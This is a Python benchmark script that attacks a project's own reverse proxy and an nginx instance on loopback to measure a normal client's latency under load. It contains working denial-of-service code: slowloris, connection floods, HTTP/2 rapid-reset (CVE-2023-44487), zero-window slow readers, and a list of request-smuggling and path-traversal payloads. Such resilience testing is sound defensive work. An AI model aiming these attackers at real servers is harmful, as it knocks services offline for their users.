#!/usr/bin/env python3
"""The edge under attack for 60 s, against a normal client's latency.

Phase 1 measures a normal client alone (a keep-alive GET every 10 ms); phase 2 measures it
again while five attackers run at once, each from its own loopback address (so the
per-client connection cap applies to them, not to the normal client):

  slowloris    300 connections sending a request head one byte a second
  flood        400 idle connections held open (more than max_connections_per_client)
  malformed    smuggling, oversized heads and bodies, broken chunks, back to back
  rapid-reset  HTTP/2 streams opened and cancelled in a loop (CVE-2023-44487)
  big-bodies   uploads declared far over client_max_body_size

It reports the normal client's p50/p99/max and failures in both phases and the ratio of the
p99s (the target is at most 2x), plus what the attackers saw, as a Markdown table written to
benches/results/attack-<date>.md. Run through benches/attack.sh.

With --slow-readers it runs the slow-reader scenario instead, against the edge and nginx
(Debian's 1.22) with the same send_timeout, one after the other, each on its own: 500
HTTP/1.1 clients (4 KiB receive buffers) and 50 HTTP/2 connections of 10 streams (a stream
window of 0, never opened) each ask for a 32 MB answer and read none of it, while a normal
client goes on. It reports, side by side: how long until every attacker's connection (or
stream) and every upstream connection behind it was let go, the normal client's p99 before
and during the attack, and the proxy's peak RSS and open file descriptors."""

import argparse
import datetime
import http.client
import multiprocessing
import os
import platform
import signal
import socket
import ssl
import statistics
import subprocess
import sys
import threading
import time

from compare import (  # same directory: benches/
    children, free_port, nginx_config, raise_nofile, rss_bytes, wait_port, work_dir)

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
EDGE = os.path.join(ROOT, "target/release/edge")
SERVICES = os.path.join(ROOT, "target/release/services")


def connect(port, source, timeout=5.0):
    return socket.create_connection(("127.0.0.1", port), timeout=timeout,
                                    source_address=(source, 0))


# ---------------------------------------------------------------- attackers


def slowloris(port, until, stats):
    head = b"GET /api/content/slow HTTP/1.1\r\nHost: edge.test\r\nX-Slow: " + b"a" * 200 + b"\r\n\r\n"
    conns = []
    while time.time() < until:
        while len(conns) < 300:
            try:
                conns.append([connect(port, "127.0.0.2", 2), 0])
                stats["opened"] += 1
            except OSError:
                stats["refused"] += 1
                break
        alive = []
        for conn in conns:
            sock, sent = conn
            try:
                sock.send(head[sent % len(head):sent % len(head) + 1])
                conn[1] += 1
                alive.append(conn)
            except OSError:
                stats["cut_off"] += 1
                sock.close()
        conns = alive
        time.sleep(1)
    for sock, _ in conns:
        sock.close()


def flood(port, until, stats):
    held = []
    while time.time() < until:
        while len(held) < 400:
            try:
                sock = connect(port, "127.0.0.3", 2)
                sock.sendall(b"GET /api/content/hold HTTP/1.1\r\nHost: edge.test\r\n\r\n")
                status = sock.recv(64)[9:12]
                stats["status_" + status.decode(errors="replace")] += 1
                if status == b"200":
                    held.append(sock)
                else:
                    sock.close()
                    break
            except OSError:
                stats["errors"] += 1
                break
        time.sleep(0.5)
        # Keep-alive idles out eventually; see which are gone.
        alive = []
        for sock in held:
            try:
                sock.setblocking(False)
                data = sock.recv(1)
                sock.close() if data == b"" else alive.append(sock)
            except BlockingIOError:
                sock.setblocking(True)
                alive.append(sock)
            except OSError:
                sock.close()
        held = alive
    for sock in held:
        sock.close()


MALFORMED = [
    b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde",
    b"GET / HTTP/1.1\r\nHost: a\r\nX-A: one\r\n two\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    b"GET /../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /" + b"a" * 20000 + b" HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nX-Big: " + b"b" * 60000 + b"\r\n\r\n",
    b"POST /api/content/x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n",
    b"GET / HTTP/1.1\r\n" + b"".join(b"X-H%d: v\r\n" % i for i in range(300)) + b"\r\n",
]


def malformed(port, until, stats):
    i = 0
    while time.time() < until:
        try:
            sock = connect(port, "127.0.0.4", 2)
            sock.sendall(MALFORMED[i % len(MALFORMED)])
            data = sock.recv(64)
            stats["status_" + (data[9:12].decode(errors="replace") or "closed")] += 1
            sock.close()
        except OSError:
            stats["errors"] += 1
        i += 1
        time.sleep(0.005)


def big_bodies(port, until, stats):
    while time.time() < until:
        try:
            sock = connect(port, "127.0.0.6", 2)
            sock.sendall(b"POST /api/content/upload HTTP/1.1\r\nHost: a\r\nContent-Length: 104857600\r\n\r\n"
                         + b"x" * 65536)
            data = sock.recv(64)
            stats["status_" + (data[9:12].decode(errors="replace") or "closed")] += 1
            sock.close()
        except OSError:
            stats["errors"] += 1
        time.sleep(0.01)


def h2_frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def rapid_reset(port, until, stats):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    # :method GET, :scheme https, :path /, :authority edge.test (HPACK static indexes + literal).
    block = bytes([0x82, 0x87, 0x84, 0x41, 9]) + b"edge.test"
    while time.time() < until:
        try:
            raw = connect(port, "127.0.0.5", 5)
            sock = ctx.wrap_socket(raw, server_hostname="edge.test")
            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0))
            stats["connections"] += 1
            stream = 1
            while time.time() < until:
                burst = b""
                for _ in range(50):
                    burst += h2_frame(1, 0x5, stream, block)  # HEADERS, END_STREAM|END_HEADERS
                    burst += h2_frame(3, 0, stream, (8).to_bytes(4, "big"))  # RST_STREAM CANCEL
                    stream += 2
                sock.sendall(burst)
                stats["streams"] += 50
                time.sleep(0.01)
        except (OSError, ssl.SSLError):
            stats["cut_off"] += 1
            time.sleep(0.05)


def run_attacker(fn, port, until, shared):
    stats = {}

    class Counter(dict):
        def __missing__(self, key):
            return 0

    stats = Counter()
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    try:
        fn(port, until, stats)
    finally:
        shared.update(dict(stats))


# ---------------------------------------------------------------- the normal client


def normal_client(port, seconds, stamped=None):
    """A keep-alive GET every 10 ms for `seconds`: the latencies in ms and the failures.
    With `stamped`, a list, each latency is also appended to it with the time it ended."""
    latencies, failures = [], 0
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    end = time.time() + seconds
    while time.time() < end:
        started = time.perf_counter()
        try:
            conn.request("GET", "/api/content/normal", headers={"Host": "edge.test"})
            response = conn.getresponse()
            response.read()
            if response.status != 200:
                failures += 1
            else:
                latencies.append((time.perf_counter() - started) * 1000)
                if stamped is not None:
                    stamped.append((time.time(), latencies[-1]))
        except (OSError, http.client.HTTPException):
            failures += 1
            conn.close()
            conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        time.sleep(0.01)
    conn.close()
    return latencies, failures


def summary(latencies):
    if not latencies:
        return 0, 0, 0
    ordered = sorted(latencies)
    p99 = ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]
    return statistics.median(ordered), p99, ordered[-1]


# ---------------------------------------------------------------- slow readers

BIG = "/big/answer"
BIG_LEN = 32 << 20  # 32 MB


def bulk_backend():
    """A backend that answers every request with BIG_LEN bytes, streamed 64 KiB at a time
    from one buffer with blocking writes (the bundled services build a body in memory: a
    thousand 32 MB answers at once would not fit), on its own thread per connection. Its
    port."""
    import socketserver

    chunk = b"x" * 65536

    class Handler(socketserver.BaseRequestHandler):
        def handle(self):
            head = b""
            while b"\r\n\r\n" not in head:
                data = self.request.recv(4096)
                if not data:
                    return
                head += data
            try:
                self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream"
                                     b"\r\nContent-Length: %d\r\n\r\n" % BIG_LEN)
                for _ in range(BIG_LEN // len(chunk)):
                    self.request.sendall(chunk)
            except OSError:
                pass

    class Server(socketserver.ThreadingTCPServer):
        daemon_threads = True
        allow_reuse_address = True
        request_queue_size = 4096

    server = Server(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


def slow_h1(port, sources, count):
    """`count` HTTP/1.1 connections, spread over `sources`, each asking for BIG with a 4 KiB
    receive buffer and reading nothing. The sockets, to keep open."""
    socks = []
    for n in range(count):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.bind((sources[n % len(sources)], 0))
        sock.settimeout(5)
        try:
            sock.connect(("127.0.0.1", port))
            sock.sendall(f"GET {BIG} HTTP/1.1\r\nHost: edge.test\r\n\r\n".encode())
            socks.append(sock)
        except OSError:
            sock.close()
    return socks


def slow_h2(port, sources, connections, streams):
    """`connections` HTTP/2 connections of `streams` streams each asking for BIG, with
    SETTINGS_INITIAL_WINDOW_SIZE 0 and no WINDOW_UPDATE ever. The sockets."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    settings = (4).to_bytes(2, "big") + (0).to_bytes(4, "big")  # INITIAL_WINDOW_SIZE = 0
    path = BIG.encode()
    # :method GET, :scheme https, :path (literal), :authority edge.test
    block = bytes([0x82, 0x87, 0x04, len(path)]) + path + bytes([0x41, 9]) + b"edge.test"
    socks = []
    for n in range(connections):
        try:
            raw = connect(port, sources[n % len(sources)], 5)
            sock = ctx.wrap_socket(raw, server_hostname="edge.test")
            out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, settings)
            for s in range(streams):
                out += h2_frame(1, 0x5, 1 + 2 * s, block)
            sock.sendall(out)
            socks.append(sock)
        except (OSError, ssl.SSLError):
            pass
    return socks


def established(local_port, peer=None):
    """Established TCP connections on `local_port` (and their Send-Q), as `ss` sees them:
    [(send_q, peer address)]."""
    out = subprocess.run(["ss", "-tnH", "state", "established", f"( sport = :{local_port} )"],
                         capture_output=True, text=True).stdout
    rows = []
    for line in out.splitlines():
        fields = line.split()
        if len(fields) >= 4:
            rows.append((int(fields[1]), fields[3].rsplit(":", 1)[0]))
    return [r for r in rows if peer is None or r[1].startswith(peer)]


def open_fds(pids):
    total = 0
    for pid in pids:
        try:
            total += len(os.listdir(f"/proc/{pid}/fd"))
        except OSError:
            pass
    return total


def slow_reader_run(name, start, http_port, https_port, bulk_port, send_timeout, seconds):
    """One proxy under the slow readers: the normal client's p99 before and during, when the
    attackers' connections and the upstream connections behind them were let go, peak RSS
    and fds."""
    proxy, pids = start()
    try:
        wait_port(http_port, 20)
        wait_port(https_port, 20)
        time.sleep(0.5)
        quiet, quiet_failures = normal_client(http_port, 10)
        before_rss = rss_bytes(pids())
        before_fds = open_fds(pids())
        result = {}

        def watch(until):
            peak_rss, peak_fds, freed, stuck_seen, stalled = 0, 0, None, 0, None
            started = time.time()
            while time.time() < until:
                peak_rss = max(peak_rss, rss_bytes(pids()))
                peak_fds = max(peak_fds, open_fds(pids()))
                # Upstream connections the backend still has bytes queued on: stuck behind
                # a client that reads nothing (one per HTTP/1.1 connection or HTTP/2
                # stream). HTTP/1.1 attackers' connections the proxy holds. (An HTTP/2
                # connection whose streams were all reset is idle, not stalled: it is let go
                # at keepalive_timeout, by both proxies.)
                stuck = sum(1 for q, _ in established(bulk_port) if q > 0)
                held = len(established(http_port, "127.0.1."))
                if stuck > stuck_seen:
                    # The last time more connections stalled: the attack's stall is complete
                    # (the backend takes a while to fill a thousand connections' buffers).
                    stuck_seen, stalled = stuck, time.time()
                if stuck == 0 and held == 0 and stalled is not None:
                    if freed is None:
                        freed = time.time() - stalled
                else:
                    freed = None
                time.sleep(0.25)
            result.update(peak_rss=peak_rss, peak_fds=peak_fds, freed=freed, stuck=stuck_seen,
                          stalled=stalled - started if stalled else None)

        until = time.time() + seconds
        watcher = threading.Thread(target=watch, args=(until,))
        watcher.start()
        attack_start = time.time()
        h1 = slow_h1(http_port, [f"127.0.1.{i}" for i in range(1, 11)], 500)
        h2 = slow_h2(https_port, [f"127.0.2.{i}" for i in range(1, 6)], 50, 10)
        stamped = []
        attacked, attacked_failures = normal_client(http_port, seconds - 1, stamped)
        watcher.join()
        # Until the attackers' answers stall, they are a thousand downloads starting at once
        # (several MB each into the socket buffers): what does the clock do after?
        stalled_at = attack_start + (result["stalled"] or 0)
        after_stall = [ms for t, ms in stamped if t > stalled_at]
        for sock in h1 + h2:
            sock.close()
        result.update(
            name=name, quiet=summary(quiet), quiet_failures=quiet_failures,
            attacked=summary(attacked), attacked_failures=attacked_failures,
            after_stall=summary(after_stall),
            h1=len(h1), h2=len(h2), rss=before_rss, fds=before_fds)
        return result
    finally:
        proxy.send_signal(signal.SIGTERM)
        try:
            proxy.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proxy.kill()


def slow_readers(args):
    raise_nofile()
    work = work_dir("edge-slow-")
    cert, key = os.path.join(work, "edge.crt"), os.path.join(work, "edge.key")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key,
                    "-out", cert, "-days", "1", "-subj", "/CN=edge.test"],
                   check=True, capture_output=True)
    backend_port = free_port()
    backend = subprocess.Popen([SERVICES, "content-manager", "--listen",
                                f"127.0.0.1:{backend_port}"], stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL, preexec_fn=raise_nofile)
    wait_port(backend_port, 20)
    bulk_port = bulk_backend()
    send_timeout = args.send_timeout
    seconds = send_timeout + 15
    results = []
    try:
        # The edge.
        http_port, https_port, admin = free_port(), free_port(), free_port()
        config = os.path.join(work, "edge.toml")
        with open(config, "w") as f:
            f.write(f"""[edge]
http_listen = ["127.0.0.1:{http_port}"]
https_listen = ["127.0.0.1:{https_port}"]
admin_listen = "127.0.0.1:{admin}"
redirect_http_to_https = false
access_log = "off"
send_timeout = "{send_timeout}s"
[tls]
certificates = [{{ cert = "{cert}", key = "{key}" }}]
[upstreams.content]
servers = [{{ addr = "127.0.0.1:{backend_port}" }}]
[upstreams.bulk]
servers = [{{ addr = "127.0.0.1:{bulk_port}" }}]
[[routes]]
path = "/"
upstream = "content"
[[routes]]
path = "/big/"
upstream = "bulk"
""")

        def edge():
            proc = subprocess.Popen([EDGE, "run", "--config", config, "--runtime-dir", work],
                                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                    preexec_fn=raise_nofile)
            return proc, lambda: [proc.pid]

        print(f"edge: {seconds} s", file=sys.stderr)
        results.append(slow_reader_run("edge", edge, http_port, https_port, bulk_port,
                                       send_timeout, seconds))
        # nginx, the same listeners' shape and send_timeout.
        http_port, https_port = free_port(), free_port()
        conf = nginx_config(work, http_port, https_port, f"127.0.0.1:{backend_port}", cert, key)
        conf = conf.replace("access_log {work}/nginx-access.log;".format(work=work),
                            f"access_log off; send_timeout {send_timeout}s;")
        # Streamed with back-pressure, as the edge streams: with proxy_buffering on (its
        # default) nginx reads each 32 MB answer into a temporary file instead, a thousand of
        # them at once, and the comparison would be of disks.
        conf = conf.replace("location / {", f"location /big/ {{ proxy_buffering off; proxy_pass http://127.0.0.1:{bulk_port}; }}\n        location / {{", 1)
        with open(os.path.join(work, "nginx.conf"), "w") as f:
            f.write(conf)

        def nginx():
            proc = subprocess.Popen(["nginx", "-p", work, "-c", f"{work}/nginx.conf", "-g",
                                     "daemon off;"], stdout=subprocess.DEVNULL,
                                    stderr=subprocess.DEVNULL, preexec_fn=raise_nofile)
            return proc, lambda: [proc.pid] + children(proc.pid)

        print(f"nginx: {seconds} s", file=sys.stderr)
        results.append(slow_reader_run("nginx", nginx, http_port, https_port, bulk_port,
                                       send_timeout, seconds))
    finally:
        backend.send_signal(signal.SIGTERM)
        backend.wait(timeout=10)

    now = datetime.datetime.now()
    mb = lambda b: f"{b / 1048576:.1f}"
    out = [
        f"# Slow readers, {now:%Y-%m-%d %H:%M}",
        "",
        f"Machine: {platform.node()}, {os.cpu_count()} cores. send_timeout {send_timeout} s on "
        "both. 500 HTTP/1.1 clients (4 KiB receive buffer, 10 source addresses) and 50 HTTP/2 "
        "connections x 10 streams (window 0, 5 addresses) ask for 32 MB and read none of it; "
        "a normal client sends a keep-alive GET every 10 ms, 10 s alone, then during the attack.",
        "",
        "nginx streams the answer (`proxy_buffering off`), as the edge does.",
        "",
        "| proxy | upstream connections stalled (most at once), all stalled after | every "
        "attacker's connection and the upstream ones behind them let go after the last stalled "
        "| normal p99 alone ms | normal p99 attacked ms (ratio) | normal p99 after the stall ms "
        "(ratio) | failed | RSS before / peak MB | fds before / peak |",
        "| --- | --- | --- | --- | --- | --- | --- | --- | --- |",
    ]
    for r in results:
        freed = f"{r['freed']:.1f} s" if r["freed"] is not None else "never in the run"
        stalled = f"{r['stalled']:.1f} s" if r["stalled"] is not None else "-"
        q99, a99, s99 = r["quiet"][1], r["attacked"][1], r["after_stall"][1]
        ratio = lambda x: f"{x / q99:.2f}" if q99 else "-"
        out.append(
            f"| {r['name']} | {r['stuck']}, {stalled} | {freed} | {q99:.2f} | {a99:.2f} "
            f"({ratio(a99)}) | {s99:.2f} ({ratio(s99)}) | "
            f"{r['quiet_failures'] + r['attacked_failures']} | {mb(r['rss'])} / "
            f"{mb(r['peak_rss'])} | {r['fds']} / {r['peak_fds']} |")
    out.append("")
    text = "\n".join(out)
    os.makedirs(os.path.join(ROOT, "benches/results"), exist_ok=True)
    path = os.path.join(ROOT, f"benches/results/slow-readers-{now:%Y-%m-%d-%H%M}.md")
    with open(path, "w") as f:
        f.write(text)
    print(text)
    print(f"written to {path}", file=sys.stderr)
    edge = results[0]
    ok = (edge["freed"] is not None and edge["freed"] <= send_timeout + 2
          and edge["after_stall"][1] <= 2 * edge["quiet"][1] and edge["attacked_failures"] == 0)
    return 0 if ok else 1


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--duration", type=int, default=60, help="seconds under attack")
    parser.add_argument("--baseline", type=int, default=20, help="seconds unattacked")
    parser.add_argument("--slow-readers", action="store_true",
                        help="the slow-reader scenario, against the edge and nginx")
    parser.add_argument("--send-timeout", type=int, default=5,
                        help="send_timeout of both proxies in the slow-reader scenario")
    args = parser.parse_args()
    if args.slow_readers:
        return slow_readers(args)
    for binary in (EDGE, SERVICES):
        if not os.path.exists(binary):
            raise SystemExit(f"{binary} is missing: run benches/attack.sh")

    work = work_dir("edge-attack-")
    cert, key = os.path.join(work, "edge.crt"), os.path.join(work, "edge.key")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                    "ec_paramgen_curve:prime256v1", "-nodes", "-keyout", key, "-out", cert,
                    "-days", "1", "-subj", "/CN=edge.test"], check=True, capture_output=True)
    backend, http_port, https_port, admin = free_port(), free_port(), free_port(), free_port()
    config = os.path.join(work, "upstreams.toml")
    with open(config, "w") as f:
        f.write(f"""[edge]
http_listen = ["127.0.0.1:{http_port}"]
https_listen = ["127.0.0.1:{https_port}"]
admin_listen = "127.0.0.1:{admin}"
redirect_http_to_https = false
access_log = "off"
[tls]
certificates = [{{ cert = "{cert}", key = "{key}" }}]
[upstreams.content]
servers = [{{ addr = "127.0.0.1:{backend}" }}]
[[routes]]
path = "/"
upstream = "content"
""")
    procs = [
        subprocess.Popen([SERVICES, "content-manager", "--listen", f"127.0.0.1:{backend}"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL),
        subprocess.Popen([EDGE, "run", "--config", config, "--runtime-dir", work],
                         stdout=subprocess.DEVNULL, stderr=open(os.path.join(work, "edge.log"), "w")),
    ]
    try:
        wait_port(backend, timeout=20)
        wait_port(http_port, timeout=20)
        wait_port(https_port, timeout=20)
        time.sleep(0.5)

        print(f"baseline: {args.baseline} s", file=sys.stderr)
        quiet, quiet_failures = normal_client(http_port, args.baseline)

        print(f"under attack: {args.duration} s", file=sys.stderr)
        until = time.time() + args.duration
        manager = multiprocessing.Manager()
        attackers = []
        for name, fn, port in [("slowloris", slowloris, http_port), ("flood", flood, http_port),
                               ("malformed", malformed, http_port),
                               ("rapid-reset", rapid_reset, https_port),
                               ("big-bodies", big_bodies, http_port)]:
            shared = manager.dict()
            proc = multiprocessing.Process(target=run_attacker, args=(fn, port, until, shared))
            proc.start()
            attackers.append((name, proc, shared))
        time.sleep(2)  # let the attacks build up
        attacked, attacked_failures = normal_client(http_port, args.duration - 4)
        for _, proc, _ in attackers:
            proc.join(timeout=30)
        alive = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
                                f"http://127.0.0.1:{http_port}/api/content/after"],
                               capture_output=True, text=True).stdout
        edge_alive = procs[1].poll() is None
        metrics = subprocess.run(["curl", "-s", f"http://127.0.0.1:{admin}/metrics"],
                                 capture_output=True, text=True).stdout
    finally:
        for p in procs:
            p.send_signal(signal.SIGTERM)
        for p in procs:
            try:
                p.wait(timeout=10)
            except subprocess.TimeoutExpired:
                p.kill()

    q50, q99, qmax = summary(quiet)
    a50, a99, amax = summary(attacked)
    ratio = a99 / q99 if q99 else float("inf")
    interesting = [line for line in metrics.splitlines()
                   if line.startswith(("edge_client_header_timeouts_total",
                                       "edge_client_connections_refused_total",
                                       "edge_client_connections{"))]
    now = datetime.datetime.now()
    out = [
        f"# The edge under attack, {now:%Y-%m-%d %H:%M}",
        "",
        f"Machine: {platform.node()}, {os.cpu_count()} cores, {platform.platform()}. "
        f"Normal client: one keep-alive GET every 10 ms; {args.baseline} s alone, then "
        f"{args.duration} s with all attackers running (each from its own loopback address).",
        "",
        "| normal client | requests | failed | p50 ms | p99 ms | max ms |",
        "| --- | --- | --- | --- | --- | --- |",
        f"| unattacked | {len(quiet)} | {quiet_failures} | {q50:.2f} | {q99:.2f} | {qmax:.2f} |",
        f"| under attack | {len(attacked)} | {attacked_failures} | {a50:.2f} | {a99:.2f} | {amax:.2f} |",
        "",
        f"**p99 under attack / unattacked: {ratio:.2f}** (target: at most 2). "
        f"After the attack the edge {'is running' if edge_alive else 'HAD EXITED'} and answers "
        f"a new request with {alive or 'nothing'}.",
        "",
        "| attacker | what it saw |",
        "| --- | --- |",
    ]
    for name, _, shared in attackers:
        seen = ", ".join(f"{k} {v}" for k, v in sorted(dict(shared).items())) or "nothing"
        out.append(f"| {name} | {seen} |")
    out += ["", "Edge counters after the run:", "", "```", *interesting, "```", ""]
    text = "\n".join(out)
    os.makedirs(os.path.join(ROOT, "benches/results"), exist_ok=True)
    path = os.path.join(ROOT, f"benches/results/attack-{now:%Y-%m-%d-%H%M}.md")
    with open(path, "w") as f:
        f.write(text)
    print(text)
    print(f"written to {path}", file=sys.stderr)
    return 0 if ratio <= 2 and attacked_failures == 0 and edge_alive else 1


if __name__ == "__main__":
    sys.exit(main())
